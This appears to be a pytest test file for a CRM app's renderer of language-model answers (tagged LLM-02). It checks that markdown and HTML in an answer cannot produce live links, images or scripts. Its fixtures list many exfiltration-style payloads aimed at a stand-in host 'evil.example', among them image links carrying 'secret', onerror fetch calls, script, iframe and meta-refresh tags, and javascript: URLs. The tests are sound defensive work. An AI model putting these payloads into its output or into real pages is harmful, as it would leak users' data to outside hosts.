"""What an answer of a model may look like: nothing in it leads anywhere, whatever was written (LLM-02)."""

from __future__ import annotations

import pytest

from crm_app.components.limited import MOST_COLUMNS, MOST_ROWS, Piece, Run, read, spoken

EVIL = "https://evil.example/x?secret=1"
LINKS = [
    f"[here]({EVIL})", f'[here]({EVIL} "title")', f"[here](<{EVIL}>)", f"![here]({EVIL})", f"[here][a]\n\n[a]: {EVIL}", f"[here][]\n\n[here]: {EVIL}",
    f"![here][a]\n\n[a]: <{EVIL}>", f"[a b][A]\n\n  [a]: {EVIL} 'title'", "[here](//evil.example/x)", f"[![here]({EVIL})]({EVIL})",
]  # fmt: skip
FORMS = [
    *LINKS, f"<{EVIL}>", EVIL, f"<a href='{EVIL}'>here</a>", f"<img src={EVIL}>", f"<img src=x onerror=fetch('{EVIL}')>", f"<script src={EVIL}></script>",
    f"<iframe src={EVIL}></iframe>", f"<style>@import '{EVIL}'</style>", f"<svg><image href='{EVIL}'/></svg>", "[here](javascript:alert(1))", "[here](data:text/html,x)",
    f"```html\n<img src={EVIL}>\n```", f"`![x]({EVIL})`", f"| a |\n|---|\n| ![x]({EVIL}) |", f"- ![x]({EVIL})", f"**![x]({EVIL})**", f"# [x]({EVIL})",
    f"[x]: {EVIL}", f"> ![x]({EVIL})", "&#60;img src=x&#62;", f"![x\u200b]({EVIL})", f"[x]\u202e({EVIL})", f"<{EVIL}\n>", f"[1]: {EVIL}\n\nWell. [1]",
    f"<link rel=prefetch href={EVIL}>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<video poster={EVIL}>", f"<object data={EVIL}>", f"<form action={EVIL}>",
]  # fmt: skip


def words(answer: str) -> str:
    """Everything that would be drawn."""
    return "\n".join(run.text for piece in read(answer) for line in (*piece.lines, *(cell for row in piece.rows for cell in row)) for run in line)


@pytest.mark.parametrize("answer", LINKS)
def test_a_link_is_its_words_and_its_host(answer):
    said = words(answer)
    assert "evil.example" in said and "secret" not in said and "](" not in said


@pytest.mark.parametrize(("address", "shown"), [
    ("https://bank.example:pin@evil.example/x", "evil.example"), ("https://bank.example%2f@evil.example:8443/x", "evil.example"),
    ("javascript:alert(1)", "javascript"), ("mailto:eve@evil.example?body=secret", "mailto"), ("data:text/html,secret", "data"),
])  # fmt: skip
def test_what_stands_beside_a_link_is_where_it_leads_and_no_more(address, shown):
    assert words(f"[here]({address})") == words(f"[here][a]\n\n[a]: {address}") == f"here ({shown})"


@pytest.mark.parametrize("answer", FORMS)
def test_an_answer_is_made_of_words_alone(answer):
    for piece in read(answer):
        assert piece.kind in ("text", "bullets", "numbers", "table")
        for line in (*piece.lines, *(cell for row in piece.rows for cell in row)):
            assert all(type(run) is Run and type(run.text) is str and isinstance(run.cites, int) for run in line)


def test_paragraphs_lists_tables_and_sources():
    answer = "Two people.\n**Jonas** first. [1][2]\n\n- one [3]\n* two\n\n1. first\n2) second\n\n| Name | Days |\n|------|-----:|\n| Ana | 4 [4] |\n\n## A head"
    assert read(answer) == (
        Piece("text", ((Run("Two people."),), (Run("Jonas", strong=True), Run(" first. "), Run("[1]", cites=1), Run("[2]", cites=2)))),
        Piece("bullets", ((Run("one "), Run("[3]", cites=3)), (Run("two"),))),
        Piece("numbers", ((Run("first"),), (Run("second"),))),
        Piece("table", rows=(((Run("Name"),), (Run("Days"),)), ((Run("Ana"),), (Run("4 "), Run("[4]", cites=4))))),
        Piece("text", ((Run("A head", strong=True),),)),
    )


def test_a_table_is_only_so_wide_and_an_answer_only_so_long():
    (piece,) = read("|" + "a|" * 50)
    assert len(piece.rows[0]) == MOST_COLUMNS
    (piece,) = read("| a |\n" * 500)
    assert len(piece.rows) == MOST_ROWS
    assert len(words("x" * 100_000)) == 40_000


def test_what_cannot_be_seen_is_not_there():
    assert words("a\u200bb\u202ec\U000e0041d\x00e\x1b[31m") == "abcde[31m"


def test_what_is_read_aloud_has_no_numbers_of_sources():
    assert spoken("Ana slept **well**. [1]\n\n- And [site](https://evil.example/x). [2]") == "Ana slept well.\nAnd site (evil.example)."


@pytest.mark.parametrize("answer", ["", "\n\n", "**", "[", "|", "||", "- ", "[x](", "#", "[]()", "![](http://[)", "[a](http://[b)"])
def test_half_a_form_is_no_form(answer):
    read(answer)


def test_long_rubbish_is_read_at_once():
    for rubbish in ("[" * 30_000, "![" * 15_000, "[a](" * 9_000, "**a" * 12_000, "<a:" * 12_000, "|" * 30_000, "(" * 30_000, "[a][b" * 8_000):
        read(rubbish)
